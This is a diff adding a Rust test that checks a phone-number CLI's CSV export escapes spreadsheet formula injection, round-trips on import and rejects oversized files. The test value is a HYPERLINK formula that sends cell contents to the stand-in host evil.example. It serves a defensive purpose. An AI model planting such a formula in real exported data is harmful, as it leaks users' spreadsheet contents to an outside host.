@@ -335,6 +335,67 @@ fn export_import_and_seed() {
 }
 
 #[test]
+fn a_csv_export_is_safe_in_a_spreadsheet_and_reads_back() {
+    let dir = tempfile::tempdir().unwrap();
+    let ws = &dir.path().join("ws.db");
+    ok(ws, &["orgs", "add", "--slug", "acme", "--name", "Acme"]);
+    // The export keeps the numbers' ids: it goes into another workspace.
+    let other = &dir.path().join("other.db");
+    ok(other, &["orgs", "add", "--slug", "copy", "--name", "Copy"]);
+    let hyperlink = r#"=HYPERLINK("https://evil.example/?d="&A1,"Support")"#;
+    ok(
+        ws,
+        &[
+            "numbers",
+            "add",
+            "--org",
+            "acme",
+            "--provider",
+            "twilio",
+            "--number",
+            "+14155550100",
+            "--friendly-name",
+            hyperlink,
+        ],
+    );
+    let csv_path = dir.path().join("acme.csv");
+    let path = csv_path.to_str().unwrap();
+    ok(
+        ws,
+        &[
+            "numbers", "export", "--org", "acme", "--format", "csv", "-o", path,
+        ],
+    );
+    let exported = std::fs::read_to_string(&csv_path).unwrap();
+    assert!(
+        exported.contains(r#""'=HYPERLINK(""https://evil.example/?d=""&A1,""Support"")""#),
+        "{exported}"
+    );
+    // As a spreadsheet saves it when the column is not text: the + is gone.
+    std::fs::write(&csv_path, exported.replace(",+1415", ",1415")).unwrap();
+    ok(other, &["numbers", "import", "--org", "copy", path]);
+    let copied = json(other, &["numbers", "list", "--org", "copy", "--json"]);
+    assert_eq!(copied["items"][0]["phone_number"], "+14155550100");
+    assert_eq!(copied["items"][0]["friendly_name"], hyperlink);
+
+    // A file over the size limit is refused before it is read (a sparse file: no disk used).
+    let big = dir.path().join("big.csv");
+    std::fs::File::create(&big)
+        .unwrap()
+        .set_len(612_000_000)
+        .unwrap();
+    let err = fails(
+        other,
+        &["numbers", "import", "--org", "copy", big.to_str().unwrap()],
+        2,
+    );
+    assert!(
+        err.contains("big.csv is 612 MB; the limit is 500 MB — split the file"),
+        "{err}"
+    );
+}
+
+#[test]
 fn a_newer_workspace_is_refused() {
     let dir = tempfile::tempdir().unwrap();
     let ws = &dir.path().join("ws.db");
